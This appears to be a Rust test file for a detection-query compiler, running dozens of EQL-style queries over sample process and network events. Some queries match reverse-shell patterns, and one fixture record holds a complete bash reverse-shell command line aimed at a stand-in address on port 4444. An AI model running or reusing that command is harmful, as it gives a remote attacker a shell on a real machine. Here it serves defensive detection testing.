//! Every kind of condition, key and stage that the compiler emits, over struct and slot events.

use core::hint::black_box;
use core::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use detectors::{Detector, Event, Layout, Matcher, Scalar, Timestamp};

use crate::record::{Field, with_slots};

#[derive(Clone, Copy, Event)]
#[event(schema = "../fields.yml")]
struct Record<'a> {
    #[event(field = "@timestamp")]
    at: Option<Timestamp>,
    #[event(field = "event.category")]
    category: &'a str,
    #[event(field = "event.action")]
    action: Option<&'a str>,
    #[event(field = "user.id")]
    user_id: &'a str,
    #[event(field = "process.name")]
    name: &'a str,
    #[event(field = "process.args")]
    args: &'a [&'a str],
    #[event(field = "process.pid")]
    pid: i64,
    #[event(field = "process.exit_code")]
    exit_code: Option<i32>,
    #[event(field = "process.interactive")]
    interactive: Option<bool>,
    #[event(field = "process.start")]
    start: Option<Timestamp>,
    #[event(field = "source.ip")]
    source: Option<IpAddr>,
    #[event(field = "agent.release")]
    release: Option<&'a str>,
    #[event(field = "agent.load")]
    load: f64,
    #[event(field = "agent.bytes")]
    bytes: u64,
    #[event(handle)]
    number: u64,
}

/// One of each query for some record and against another: [`run`] holds them to that.
macro_rules! queries {
    ($($name:ident($($capacity:literal)?): $query:literal;)*) => {
        $(mod $name {
            #[derive(detectors::Detector)]
            #[detector(query = $query, schema = "../fields.yml", event = super::Record<'_>)]
            pub(super) struct Query;
        })*

        /// The number of the first query that does not do what it should.
        pub(crate) fn run() -> Option<i32> {
            let mut number = 0;
            $(
                if !finds_some::<$name::Query, _>(|| $name::Query::matcher$(::<$capacity>)?()) {
                    return Some(number);
                }
                number += 1;
            )*
            let _ = number;
            None
        }
    };
}

queries! {
    exact(): r#"process where process.name == "bash""#;
    ordered_text(): r#"process where process.name >= "b" and process.name < "c""#;
    folded(): r#"process where process.name : "BASH""#;
    few(): r#"process where process.name in ("bash", "zsh")"#;
    few_folded(): r#"process where process.name in~ ("BASH", "ZSH")"#;
    many(): r#"process where process.name in ("bash", "zsh", "dash", "ksh", "csh", "tcsh", "a name of more than eight bytes")"#;
    many_folded(): r#"process where process.name : ("Bash", "Zsh", "Dash", "Ksh", "Csh", "Tcsh", "A Name Of More Than Eight Bytes")"#;
    prefix(): r#"process where process.name like "ba*""#;
    prefix_folded(): r#"process where process.name : "BA*""#;
    suffix(): r#"process where process.name like "*sh""#;
    suffix_folded(): r#"process where process.name : "*ASH""#;
    substring(): r#"process where process.args like "*/dev/tcp/*""#;
    substring_folded(): r#"process where process.args : "*/DEV/tcp/*""#;
    in_order(): r#"process where process.args like "bash*/dev/*>&1""#;
    in_order_folded(): r#"process where process.args : "*BASH*/dev/*>&1*""#;
    wildcards(): r#"process where process.args like "b?sh*/dev/???/*""#;
    wildcards_folded(): r#"process where process.args : "B?SH*/dev/???/*""#;
    regular(): r#"process where process.args regex "bash -[ic].*[0-9]{1,3}(\\.[0-9]{1,3}){3}.*""#;
    regular_folded(): r#"process where process.args regex~ ("BASH .*", "zsh .*")"#;
    present(): r#"process where process.exit_code != null"#;
    absent(): r#"process where process.exit_code == null"#;
    negated(): r#"process where not process.args : ("-c", "-i") and process.name != "cat""#;
    truth(): r#"process where process.interactive"#;
    untrue(): r#"process where process.interactive == false"#;
    number(): r#"process where process.pid > 1000 and process.exit_code <= 1"#;
    number_list(): r#"process where process.pid in (1, 2, 4711)"#;
    double(): r#"process where agent.load > 0.5"#;
    double_of_whole(): r#"process where process.pid >= 4710.5"#;
    large(): r#"process where agent.bytes > 9223372036854775807"#;
    number_in_text(): r#"process where user.id >= 1000"#;
    date(): r#"process where process.start >= "2026-01-01" and process.start < "2026-02-01T00:00:00Z""#;
    date_number(): r#"process where @timestamp > 1000"#;
    address(): r#"process where source.ip == "10.1.2.3""#;
    address_order(): r#"process where source.ip >= "2001::""#;
    block(): r#"process where cidrMatch(source.ip, "10.0.0.0/8", "fd00::/8")"#;
    version(): r#"process where agent.release > "1.2.3-alpha" and agent.release < "1.11.0""#;
    version_text(): r#"process where agent.release : "1.9*""#;
    sum(): r#"process where process.pid + process.exit_code * 2 - 1 > 4711"#;
    wide(): r#"process where agent.bytes + process.pid > 0"#;
    quotient(): r#"process where process.pid / process.exit_code >= 4711"#;
    remainder(): r#"process where process.pid % 10 == 1 and agent.load % 0.3 > 0.05"#;
    of_doubles(): r#"process where (agent.load * 2.5 - 1) / process.exit_code > 0.5"#;
    minus(): r#"process where -process.pid < -1000 and -agent.load < -0.5"#;
    function_names(): r#"process where add(subtract(multiply(process.pid, 2), 1), modulo(divide(process.pid, 2), 7)) > 9000"#;
    text_length(): r#"process where length(process.args) > 20"#;
    joined(): r#"process where concat(process.name, ":", process.pid, agent.load, process.interactive) : "BASH:47*""#;
    joined_equal(): r#"process where concat(process.name, "/", user.id) == "bash/1000""#;
    joined_among(): r#"process where concat(process.name, user.id) in~ ("BASH1000", "zsh0")"#;
    joined_glob(): r#"process where concat(process.name, user.id) like "ba?h*""#;
    joined_regular(): r#"process where concat(process.name, user.id) regex "b.*[0-9]+""#;
    part(): r#"process where substring(process.name, 1, -1) == "as" or substring(process.name, -2) == "s\u{fe}""#;
    part_by_field(): r#"process where substring(process.args, process.exit_code, process.pid) : "*bash*""#;
    middle(): r#"process where between(process.args, "/dev/", "/", false) == "tcp""#;
    middle_folded(): r#"process where between~(process.args, "/DEV/", "/", true) : "TCP/*""#;
    begins(): r#"process where startsWith(process.args, process.name)"#;
    begins_folded(): r#"process where startsWith~(process.args, "BASH")"#;
    ends(): r#"process where endsWith(process.args, "1")"#;
    ends_folded(): r#"process where endsWith~(process.args, concat(">", "&1"))"#;
    has(): r#"process where stringContains(process.args, "tcp")"#;
    has_folded(): r#"process where stringContains~(process.args, process.name) and stringContains~(concat(process.args, ""), "TCP")"#;
    place(): r#"process where indexOf(process.args, "/", process.exit_code) > 3"#;
    place_folded(): r#"process where indexOf~(process.args, "DEV") > 3"#;
    parsed(): r#"process where number(user.id) > 999"#;
    parsed_base(): r#"process where number(user.id, 16) == 4096"#;
    written(): r#"process where string(process.pid) == "4711" and string(agent.load) : "0.*" and string(source.ip) : "10.*" and string(process.start) : "2026*""#;
    nulls(): r#"process where (process.exit_code > 0) == null or length(agent.release) == null"#;
    logic(): r#"process where ((process.exit_code > 0 and length(process.name) > 3) or not startsWith(process.name, "b")) == true"#;
    unmapped(): r#"process where ?agent.nothing == null and ?process.exit_code == 1"#;
    any_category(): r#"any where process.name == "bash""#;
    two_stages(64): r#"sequence by user.id with maxspan=1m [process where process.name == "bash"] [network where true]"#;
    key_per_term(64): r#"sequence [process where process.name == "bash"] by user.id, process.pid [network where true] by user.id, process.pid"#;
    optional_key(64): r#"sequence by ?event.action, source.ip, process.start [process where true] [network where true]"#;
    unmapped_key(64): r#"sequence by ?agent.nothing, agent.load, process.interactive, agent.release [process where true] [network where true]"#;
    many_values(64): r#"sequence by process.args, agent.bytes [process where true] [network where true]"#;
    until(64): r#"sequence by user.id with maxspan=1h [process where process.name : "b*"] [network where true] until [process where process.name == "cat"]"#;
    runs(64): r#"sequence by process.pid with maxspan=1d [any where true] with runs=2 [any where process.pid > 0] with runs=3 [any where true] until [file where true]"#;
    missing_first(64): r#"sequence by user.id with maxspan=1m ![process where process.name == "zsh"] [process where process.name == "bash"] [network where true]"#;
    missing_between(64): r#"sequence by user.id, process.args with maxspan=1m [process where process.name : "b*"] ![file where true] [network where true]"#;
    missing_last(64): r#"sequence by user.id, agent.load, source.ip with maxspan=1m [process where true] [network where true] ![file where true]"#;
    sample(64): r#"sample by user.id [process where true] [network where process.pid > 0]"#;
    many_stages(64): r#"sequence with maxspan=1d [process where true] [network where length(process.name) > 0] [process where process.pid + 1 > 0] [network where true]"#;
}

/// Whether struct and slot events give the same number of alerts, at least one and not one for each event.
fn finds_some<Q: Detector + Layout, M: Matcher>(matcher: impl Fn() -> M) -> bool {
    let (mut by_struct, mut by_slots) = (0_u32, 0_u32);
    let (mut of_structs, mut of_slots) = (matcher(), matcher());
    let records = records();
    for round in 0..black_box(4) {
        for record in &records {
            let at = record.at.map(|at| Timestamp(at.0.saturating_add(round)));
            let record = black_box(Record { at, ..*record });
            of_structs.observe(&record, |alert| by_struct += u32::from(!black_box(alert).events.is_empty()));
            with_fields(&record, &mut |handle, fields| {
                with_slots::<Q, _>(handle, fields, |event| {
                    of_slots.observe(event, |alert| by_slots += u32::from(!black_box(alert).events.is_empty()));
                });
            });
        }
        of_structs.advance(Timestamp(black_box(round)), |alert| _ = black_box(alert));
        black_box((of_structs.counters(), of_structs.oldest_live_handle()));
    }
    of_structs.finish(|alert| by_struct += u32::from(!black_box(alert).events.is_empty()));
    of_slots.finish(|alert| by_slots += u32::from(!black_box(alert).events.is_empty()));
    by_struct > 0 && by_struct == by_slots && by_struct < 4 * records.len() as u32
}

#[inline(never)]
fn records<'a>() -> [Record<'a>; 5] {
    const START: i64 = 1_767_225_600_000;
    let shell = Record {
        at: Some(Timestamp(START)),
        category: "process",
        action: Some("exec"),
        user_id: "1000",
        name: "bash",
        args: &["-i", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
        pid: 4711,
        exit_code: Some(1),
        interactive: Some(true),
        start: Some(Timestamp(START)),
        source: Some(IpAddr::V4(Ipv4Addr::new(10, 1, 2, 3))),
        release: Some("1.9.3"),
        load: 0.75,
        bytes: u64::MAX,
        number: 1,
    };
    let other = Record {
        action: None,
        user_id: "root",
        name: "ls\u{fe}",
        args: &[],
        pid: 1,
        exit_code: None,
        interactive: None,
        start: None,
        source: None,
        release: None,
        load: 0.25,
        bytes: 1,
        number: 2,
        ..shell
    };
    let cat = Record { name: "cat", args: &["cat"], interactive: Some(false), source: Some(IpAddr::V6(V6)), number: 3, ..other };
    black_box([
        shell,
        other,
        cat,
        Record { category: "network", number: 4, ..shell },
        Record { category: "network", number: 5, ..other },
    ])
}

const V6: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1);

/// Calls `judge` with the record's handle and fields.
#[inline(never)]
fn with_fields(record: &Record<'_>, judge: &mut dyn FnMut(u64, &[Field<'_>])) {
    // A field without a value has one that is not looked at.
    let scalar = |value: Option<Scalar<'static>>| [value.unwrap_or(Scalar::Bool(false))];
    let action = [Scalar::Str(record.action.unwrap_or_default())];
    let release = [Scalar::Str(record.release.unwrap_or_default())];
    let exit_code = scalar(record.exit_code.map(|code| Scalar::Int(i64::from(code))));
    let interactive = scalar(record.interactive.map(Scalar::Bool));
    let start = scalar(record.start.map(Scalar::Time));
    let source = scalar(record.source.map(Scalar::Ip));
    let at = scalar(record.at.map(Scalar::Time));
    let mut given = record.args.iter();
    let args = [(); 2].map(|()| Scalar::Str(given.next().copied().unwrap_or_default()));
    let one = |there: bool, value| if there { value } else { &[][..] };
    let fields: [Field<'_>; 14] = [
        ("@timestamp", one(record.at.is_some(), &at)),
        ("event.category", &[Scalar::Str(record.category)]),
        ("event.action", one(record.action.is_some(), &action)),
        ("user.id", &[Scalar::Str(record.user_id)]),
        ("process.name", &[Scalar::Str(record.name)]),
        ("process.args", args.get(..record.args.len()).unwrap_or_default()),
        ("process.pid", &[Scalar::Int(record.pid)]),
        ("process.exit_code", one(record.exit_code.is_some(), &exit_code)),
        ("process.interactive", one(record.interactive.is_some(), &interactive)),
        ("process.start", one(record.start.is_some(), &start)),
        ("source.ip", one(record.source.is_some(), &source)),
        ("agent.release", one(record.release.is_some(), &release)),
        ("agent.load", &[Scalar::Float(record.load)]),
        ("agent.bytes", &[Scalar::Unsigned(record.bytes)]),
    ];
    judge(record.number, black_box(&fields[..]));
}
